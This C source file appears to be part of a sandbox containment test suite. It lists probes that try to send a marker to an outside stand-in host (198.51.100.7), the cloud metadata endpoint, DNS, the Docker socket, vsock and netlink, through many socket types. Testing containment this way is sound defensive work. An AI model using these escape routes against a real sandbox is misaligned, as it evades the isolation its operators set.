/* The network: every family, type and protocol that could carry a byte to a trap outside. */
#include "probe.h"
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>

#ifndef TCP_FASTOPEN_CONNECT
#define TCP_FASTOPEN_CONNECT 30
#endif
#define OUTSIDE "198.51.100.7"

struct sockaddr_in inet4(const char *ip, int port) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, ip, &address.sin_addr);
    return address;
}

struct sockaddr_in6 inet6(const char *ip, int port) {
    struct sockaddr_in6 address = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    inet_pton(AF_INET6, ip, &address.sin6_addr);
    return address;
}

void say_to(int fd, const void *address, socklen_t length) {
    if (fd < 0) return;
    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
    struct pollfd ready = {fd, POLLOUT, 0};
    if (connect(fd, address, length) && errno == EINPROGRESS) poll(&ready, 1, 1000);
    send(fd, mark(), strlen(mark()), MSG_NOSIGNAL);
    /* Time for the trap to read, where the socket would be reset by our end. */
    shutdown(fd, SHUT_WR);
    struct pollfd answer = {fd, POLLIN, 0};
    poll(&answer, 1, 300);
    close(fd);
}

void say_tcp(const char *ip, int port) {
    struct sockaddr_in to = inet4(ip, port);
    say_to(socket(AF_INET, SOCK_STREAM, 0), &to, sizeof to);
}

static void say_tcp6(const char *ip, int port) {
    struct sockaddr_in6 to = inet6(ip, port);
    say_to(socket(AF_INET6, SOCK_STREAM, 0), &to, sizeof to);
}

static void tcp_loopback(void) { say_tcp("127.0.0.1", number("port")); }
static void tcp_loopback_other(void) { say_tcp("127.3.2.1", number("port")); }
static void tcp_any(void) { say_tcp("0.0.0.0", number("port")); }
static void tcp_outside(void) { say_tcp(OUTSIDE, number("port")); }
static void tcp_metadata(void) { say_tcp("169.254.169.254", 80); }
static void tcp6_loopback(void) { say_tcp6("::1", number("port")); }
static void tcp6_metadata(void) { say_tcp6("fd00:ec2::254", number("port")); }
static void tcp6_mapped(void) { say_tcp6("::ffff:" OUTSIDE, number("port")); }

static void tcp_blocking(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (!connect(fd, (void *)&to, sizeof to)) send(fd, mark(), strlen(mark()), 0);
    sleep(0);
}

static void say_udp(const char *ip, int port) {
    struct sockaddr_in to = inet4(ip, port);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    sendto(fd, mark(), strlen(mark()), 0, (void *)&to, sizeof to);
    close(fd);
}

static void udp_loopback(void) { say_udp("127.0.0.1", number("port")); }
static void udp_outside(void) { say_udp(OUTSIDE, number("port")); }
static void udp_dns(void) { say_udp("8.8.8.8", 53); }
static void udp_quic(void) { say_udp(OUTSIDE, 443); }

static void udp_connected(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    connect(fd, (void *)&to, sizeof to);
    if (write(fd, mark(), strlen(mark())) < 0) return;
}

static void udp_sendmmsg(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    struct iovec text = {(char *)mark(), strlen(mark())};
    struct mmsghdr message = {.msg_hdr = {&to, sizeof to, &text, 1, NULL, 0, 0}};
    sendmmsg(socket(AF_INET, SOCK_DGRAM, 0), &message, 1, 0);
}

static void udp6(void) {
    struct sockaddr_in6 to = inet6("fd00:ec2::254", number("port"));
    sendto(socket(AF_INET6, SOCK_DGRAM, 0), mark(), strlen(mark()), 0, (void *)&to, sizeof to);
}

static void udplite(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    sendto(socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE), mark(), strlen(mark()), 0, (void *)&to, sizeof to);
}

static void fastopen_sendto(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    sendto(fd, mark(), strlen(mark()), MSG_FASTOPEN | MSG_NOSIGNAL, (void *)&to, sizeof to);
    poll(NULL, 0, 100);
}

static void fastopen_sendmsg(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    struct iovec text = {(char *)mark(), strlen(mark())};
    struct msghdr message = {&to, sizeof to, &text, 1, NULL, 0, 0};
    sendmsg(socket(AF_INET, SOCK_STREAM, 0), &message, MSG_FASTOPEN | MSG_NOSIGNAL);
    poll(NULL, 0, 100);
}

static void fastopen_sendmmsg(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    struct iovec text = {(char *)mark(), strlen(mark())};
    struct mmsghdr message = {.msg_hdr = {&to, sizeof to, &text, 1, NULL, 0, 0}};
    sendmmsg(socket(AF_INET, SOCK_STREAM, 0), &message, 1, MSG_FASTOPEN | MSG_NOSIGNAL);
    poll(NULL, 0, 100);
}

static void fastopen_connect(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
    say_to(fd, &to, sizeof to);
}

static void mptcp(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    say_to(socket(AF_INET, SOCK_STREAM, 262), &to, sizeof to);
}

static void sctp(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    say_to(socket(AF_INET, SOCK_STREAM, 132), &to, sizeof to);
}

static void unspec_reconnect(void) {
    struct sockaddr_in inner = inet4("127.0.0.1", 0), to = inet4(OUTSIDE, number("port"));
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    socklen_t length = sizeof inner;
    int listener = socket(AF_INET, SOCK_STREAM, 0), fd = socket(AF_INET, SOCK_STREAM, 0);
    bind(listener, (void *)&inner, sizeof inner);
    listen(listener, 1);
    getsockname(listener, (void *)&inner, &length);
    connect(fd, (void *)&inner, sizeof inner);
    connect(fd, &none, sizeof none);
    say_to(fd, &to, sizeof to);
}

static void from_bound(void) {
    struct sockaddr_in from = inet4("0.0.0.0", 0), to = inet4(OUTSIDE, number("port"));
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    bind(fd, (void *)&from, sizeof from);
    say_to(fd, &to, sizeof to);
}

static unsigned short checksum(const void *data, int length) {
    unsigned long sum = 0;
    const unsigned short *word = data;
    for (; length > 1; length -= 2) sum += *word++;
    if (length) sum += *(const unsigned char *)word;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return ~sum;
}

/* A UDP datagram made by hand: IP header, UDP header, the mark. */
static int datagram(unsigned char *packet) {
    int said = strlen(mark()), total = sizeof(struct iphdr) + sizeof(struct udphdr) + said;
    struct iphdr *ip = (void *)packet;
    struct udphdr *udp = (void *)(ip + 1);
    memset(packet, 0, total);
    *ip = (struct iphdr){.version = 4, .ihl = 5, .tot_len = htons(total), .ttl = 64, .protocol = IPPROTO_UDP};
    ip->saddr = inet_addr("127.0.0.1");
    ip->daddr = inet_addr("127.0.0.1");
    ip->check = checksum(ip, sizeof *ip);
    udp->source = htons(9);
    udp->dest = htons(number("port"));
    udp->len = htons(sizeof *udp + said);
    memcpy(udp + 1, mark(), said);
    return total;
}

static void raw_ip(void) {
    unsigned char packet[2048];
    struct sockaddr_in to = inet4("127.0.0.1", 0);
    int length = datagram(packet), fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    sendto(fd, packet, length, 0, (void *)&to, sizeof to);
}

static void packet_socket(void) {
    unsigned char packet[2048];
    int length = datagram(packet), fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    struct sockaddr_ll to = {AF_PACKET, htons(ETH_P_IP), if_nametoindex("lo"), 0, 0, 6, {0}};
    sendto(fd, packet, length, 0, (void *)&to, sizeof to);
}

static void icmp_echo(void) {
    struct sockaddr_in to = inet4(OUTSIDE, 0);
    struct icmphdr echo = {.type = ICMP_ECHO};
    int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
    if (fd < 0) fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    echo.checksum = checksum(&echo, sizeof echo);
    sendto(fd, &echo, sizeof echo, 0, (void *)&to, sizeof to);
}

static void unix_path(const char *path, int type) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
    int fd = socket(AF_UNIX, type, 0);
    if (type == SOCK_DGRAM)
        sendto(fd, mark(), strlen(mark()), 0, (void *)&to, sizeof to);
    else
        say_to(fd, &to, sizeof to);
}

static void unix_home(void) { unix_path(in("home", "docker.sock"), SOCK_STREAM); }
static void unix_tmp(void) { unix_path(in("tmp", "agent.sock"), SOCK_STREAM); }
static void unix_datagram(void) { unix_path(in("home", "notify.sock"), SOCK_DGRAM); }
static void unix_symlink(void) { unix_path(in("work", "link-sock"), SOCK_STREAM); }
static void unix_workspace(void) { unix_path(in("work", "host.sock"), SOCK_STREAM); }

static socklen_t abstract(struct sockaddr_un *to, const char *name) {
    *to = (struct sockaddr_un){.sun_family = AF_UNIX};
    memcpy(to->sun_path + 1, name, strlen(name));
    return offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
}

static void unix_abstract(void) {
    struct sockaddr_un to;
    socklen_t length = abstract(&to, arg("abstract"));
    say_to(socket(AF_UNIX, SOCK_STREAM, 0), &to, length);
}

static void unix_abstract_datagram(void) {
    struct sockaddr_un to;
    char name[128];
    snprintf(name, sizeof name, "%s-dgram", arg("abstract"));
    socklen_t length = abstract(&to, name);
    sendto(socket(AF_UNIX, SOCK_DGRAM, 0), mark(), strlen(mark()), 0, (void *)&to, length);
}

static void vsock(void) {
    struct sockaddr_vm to = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_LOCAL, .svm_port = 5005};
    say_to(socket(AF_VSOCK, SOCK_STREAM, 0), &to, sizeof to);
}

/* Lists listening TCP sockets, as ss(8) does. */
static void netlink_diag(void) {
    struct {
        struct nlmsghdr head;
        struct inet_diag_req_v2 body;
    } request = {{sizeof request, SOCK_DIAG_BY_FAMILY, NLM_F_REQUEST | NLM_F_DUMP, 1, 0},
                 {.sdiag_family = AF_INET, .sdiag_protocol = IPPROTO_TCP, .idiag_states = 1 << 10}};
    char buffer[32768];
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_SOCK_DIAG);
    struct timeval second = {1, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &second, sizeof second);
    if (send(fd, &request, sizeof request, 0) < 0) return;
    for (int length; (length = recv(fd, buffer, sizeof buffer, 0)) > 0;)
        for (struct nlmsghdr *at = (void *)buffer; NLMSG_OK(at, length); at = NLMSG_NEXT(at, length)) {
            if (at->nlmsg_type == NLMSG_DONE || at->nlmsg_type == NLMSG_ERROR) return;
            struct inet_diag_msg *entry = NLMSG_DATA(at);
            dprintf(1, "listening:%d:\n", ntohs(entry->id.idiag_sport));
        }
}

/* Gives the host's loopback another address, or takes it away again. */
static void change_address(int type, int flags) {
    struct {
        struct nlmsghdr head;
        struct ifaddrmsg body;
        struct rtattr attribute;
        struct in_addr address;
    } request = {{sizeof request, type, NLM_F_REQUEST | flags | NLM_F_ACK, 1, 0},
                 {AF_INET, 32, 0, 0, if_nametoindex("lo")},
                 {sizeof(struct rtattr) + 4, IFA_LOCAL},
                 {inet_addr("203.0.113.99")}};
    char buffer[4096];
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    if (send(fd, &request, sizeof request, 0) > 0) recv(fd, buffer, sizeof buffer, 0);
}

static void netlink_route(void) { change_address(RTM_NEWADDR, NLM_F_CREATE); }
int unaddress(void) {
    change_address(RTM_DELADDR, 0);
    return 0;
}

const struct attack net_attacks[] = {
    {"net.tcp_loopback", tcp_loopback},
    {"net.tcp_loopback_other", tcp_loopback_other},
    {"net.tcp_any", tcp_any},
    {"net.tcp_outside", tcp_outside},
    {"net.tcp_blocking", tcp_blocking},
    {"net.tcp_metadata", tcp_metadata},
    {"net.tcp6_loopback", tcp6_loopback},
    {"net.tcp6_metadata", tcp6_metadata},
    {"net.tcp6_mapped", tcp6_mapped},
    {"net.unspec_reconnect", unspec_reconnect},
    {"net.from_bound", from_bound},
    {"net.udp_loopback", udp_loopback},
    {"net.udp_outside", udp_outside},
    {"net.udp_connected", udp_connected},
    {"net.udp_sendmmsg", udp_sendmmsg},
    {"net.udp_dns", udp_dns},
    {"net.udp_quic", udp_quic},
    {"net.udp6", udp6},
    {"net.udplite", udplite},
    {"net.fastopen_sendto", fastopen_sendto},
    {"net.fastopen_sendmsg", fastopen_sendmsg},
    {"net.fastopen_sendmmsg", fastopen_sendmmsg},
    {"net.fastopen_connect", fastopen_connect},
    {"net.mptcp", mptcp},
    {"net.sctp", sctp},
    {"net.raw_ip", raw_ip},
    {"net.packet_socket", packet_socket},
    {"net.icmp_echo", icmp_echo},
    {"net.vsock", vsock},
    {"net.unix_home", unix_home},
    {"net.unix_tmp", unix_tmp},
    {"net.unix_datagram", unix_datagram},
    {"net.unix_symlink", unix_symlink},
    {"net.unix_workspace", unix_workspace},
    {"net.unix_abstract", unix_abstract},
    {"net.unix_abstract_datagram", unix_abstract_datagram},
    {"net.netlink_diag", netlink_diag},
    {"net.netlink_route", netlink_route},
    {0},
};
